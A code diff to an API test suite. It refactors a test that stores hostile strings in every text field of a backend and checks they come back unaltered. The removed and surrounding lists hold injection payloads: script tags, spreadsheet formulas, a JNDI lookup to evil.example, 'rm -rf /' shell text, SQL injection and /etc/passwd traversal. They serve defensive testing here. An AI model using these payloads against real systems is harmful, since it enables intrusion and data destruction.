@@ -11,7 +11,9 @@ import { sample, sourceOf } from '../../scripts/probe/sample.ts';
 import type { JsonSchema } from '../../scripts/probe/schema.ts';
 import { complaintsAbout } from '../support/answers.ts';
 import { databaseKinds, startBackend, testStart, type SignedIn, type TestBackend } from '../support/backend.ts';
+import { hostileTexts } from '../support/hostileTexts.ts';
 import { dashboardUrl, type NationalIdServer, startNationalId } from '../support/nationalId.ts';
+import { picture, upload } from '../support/uploads.ts';
 
 const sqlTexts = [
   "' or 1=1 --",
@@ -46,30 +48,6 @@ const pathTexts = [
   'x%00.json',
   '%c0%ae%c0%ae/etc/passwd',
   '~root',
-];
-
-/** Texts that must come back letter for letter, wherever a text is taken. Each has three characters at least. */
-const hostileTexts = [
-  '<script>alert(1)</script>',
-  '"><img src=x onerror=alert(1)>',
-  'javascript:alert(1)//',
-  '{{7*7}}${7*7}<%= 7*7 %>',
-  '=HYPERLINK("http://evil.example";"click")',
-  '+1+cmd|’/c calc’!A0',
-  '@SUM(1+1)*cmd|" /C calc"!A0',
-  '-2+3+cmd|" /C calc"!A0',
-  'abc\u202Edcba\u202C',
-  'مرحبا بالعالم \u200F(1)',
-  'שלום \u2067עולם\u2069',
-  '🤟🏽 sign 👩🏽‍🦻 𝕊𝕃',
-  'z̸̢̛̤͙a̷l̶g̵o̴',
-  'a\u200Bb\uFEFFc',
-  'O\'Brien \\ "quoted" `back`',
-  'NULL null undefined NaN true',
-  '%s %n %x ${jndi:ldap://evil.example/a}',
-  '; rm -rf / && $(reboot) `id`',
-  "Robert'); drop table users;--",
-  'ﬁ ﷽ ǆ İstanbul ẞ ß',
 ];
 
 const jsonTexts: [string, string][] = [
@@ -250,35 +228,103 @@ describe.each(databaseKinds)('what means harm, on the %s database', (kind) => {
   const bodyWith = ({ create }: Collection, field: string, text: string) =>
     JSON.stringify({
       ...(sample(create.body?.schema ?? {}, '', { ...source, idFor: known.idFor }) as object),
-      [field]: text,
+      ...(field ? { [field]: text } : {}),
     });
 
+  /** Collections with text in them, those of a partner too, and what a record of them needs besides what its contract demands. */
+  const withText = async (): Promise<{ collection: Collection; needs: Record<string, unknown> }[]> => {
+    const partner = (await call('POST', '/partners/', { payload: '{"name":"Hostile","slug":"hostile"}' })).json().id;
+    const image = (await upload(app, owner, { purpose: 'slider', bytes: await picture() })).json().id;
+    const ofPartner = collectionsOf(
+      operations.map((operation) => {
+        const path = operation.path.replace('{partner}', partner);
+        return { ...operation, path, name: `${operation.method} ${path}` };
+      }),
+    );
+    return ofPartner
+      .filter((collection) => collection.update && textFields(collection).length > 0)
+      .map((collection) => ({
+        collection,
+        needs: collection.create.path.endsWith('/videos/')
+          ? { url: 'https://probe.example/film' }
+          : collection.create.path === '/sliders/'
+            ? { image }
+            : {},
+      }));
+  };
+
   it('comes back as it was from every field that takes any text', async () => {
-    const kept = new Map<string, number>();
-    for (const collection of collections)
-      for (const field of textFields(collection))
-        for (const text of hostileTexts) {
-          const { create } = collection;
-          let made = await call('POST', create.path, { payload: bodyWith(collection, field, text) });
-          // The rest of the body may forbid the field: an address for what is remote.
-          for (let turn = 0; turn < 40 && made.statusCode !== 201; turn += 1)
-            made = await call('POST', create.path, { payload: bodyWith(collection, field, text) });
-          const where = [create.name, field, text];
-          expect([...where, complaintsAbout(create, made)]).toEqual([...where, []]);
-          if (made.statusCode !== 201) continue;
-          const path = `${create.path}${made.json().id}/`;
-          const read = (await call('GET', path)).json();
-          expect([...where, read[field]]).toEqual([...where, text.normalize('NFC').trim()]);
-          expect((await call('DELETE', path)).statusCode).toBe(204);
-          kept.set(`${create.path} ${field}`, (kept.get(`${create.path} ${field}`) ?? 0) + 1);
+    const kept: Record<string, Set<string>> = {};
+    for (const { collection, needs } of await withText()) {
+      const { create, read, update } = collection;
+      const fields = textFields(collection);
+      /** Another text in each field, and each text in every field in the end. */
+      const textsAt = (turn: number, some: string[]) =>
+        Object.fromEntries(
+          some.map((field) => [field, hostileTexts[(turn + fields.indexOf(field) * 7) % hostileTexts.length] ?? '']),
+        );
+      const begin = async (some: string[]) => {
+        // The rest of the body may forbid a field: an address for what is remote.
+        for (let attempt = 0; attempt < 40; attempt += 1) {
+          const body = { ...(JSON.parse(bodyWith(collection, '', '')) as object), ...needs, ...textsAt(0, some) };
+          const made = await call('POST', create.path, { payload: JSON.stringify(body) });
+          expect([create.name, complaintsAbout(create, made)]).toEqual([create.name, []]);
+          if (made.statusCode === 201) return made.json() as Record<string, string>;
         }
-    expect(Object.fromEntries(kept)).toEqual(
-      Object.fromEntries([...kept.keys()].map((field) => [field, hostileTexts.length])),
+        return null;
+      };
+      // All at once where the fields go together, else one after the other.
+      const together = fields.length > 1 ? await begin(fields) : null;
+      for (const some of together ? [fields] : fields.map((field) => [field])) {
+        let record = together ?? (await begin(some));
+        if (!record) continue;
+        const path = read.path.replace('{id}', record['id'] ?? '');
+        for (let turn = 0; turn < hostileTexts.length; turn += 1) {
+          const texts = textsAt(turn, some);
+          const answer = await call('PATCH', path, {
+            payload: JSON.stringify(texts),
+            headers: { 'if-match': record['etag'] ?? '' },
+          });
+          expect([update?.name, texts, answer.statusCode]).toEqual([update?.name, texts, 200]);
+          record = answer.json() as Record<string, string>;
+          for (const [field, text] of Object.entries(texts)) {
+            expect([create.path, field, record[field]]).toEqual([create.path, field, text.normalize('NFC').trim()]);
+            const name = `${create.path.replace(/[0-9a-f]{24}/, '{partner}')} ${field}`;
+            kept[name] = (kept[name] ?? new Set()).add(text);
+          }
+        }
+        // What a change answers is what is kept.
+        expect((await call('GET', path)).json()).toEqual(record);
+        expect((await call('DELETE', path)).statusCode).toBe(204);
+      }
+    }
+    expect(hostileTexts).toHaveLength(60);
+    expect(Object.fromEntries(Object.entries(kept).map(([name, texts]) => [name, texts.size]))).toEqual(
+      Object.fromEntries(
+        [
+          '/closure_categories/ group',
+          '/closure_categories/ title',
+          '/contacts/ name',
+          '/departments/ name',
+          '/partner_categories/ name',
+          '/partners/ address',
+          '/partners/ name',
+          '/partners/{partner}/venues/ address',
+          '/partners/{partner}/venues/ name',
+          '/partners/{partner}/videos/ title',
+          '/reservations/ address',
+          '/reservations/ name',
+          '/reservations/ note',
+          '/saved_views/ name',
+          '/schedules/ address',
+          '/sliders/ title',
+          '/users/ first_name',
+          '/users/ last_name',
+          '/video_categories/ name',
+        ].map((name) => [name, hostileTexts.length]),
+      ),
     );
-    expect([...kept.keys()]).toEqual(
-      expect.arrayContaining(['/contacts/ name', '/users/ first_name', '/users/ last_name']),
-    );
-  }, 120_000);
+  }, 60_000);
 
   it('with half a letter or a null character in it is refused, since it would come back as another', async () => {
     for (const collection of collections)
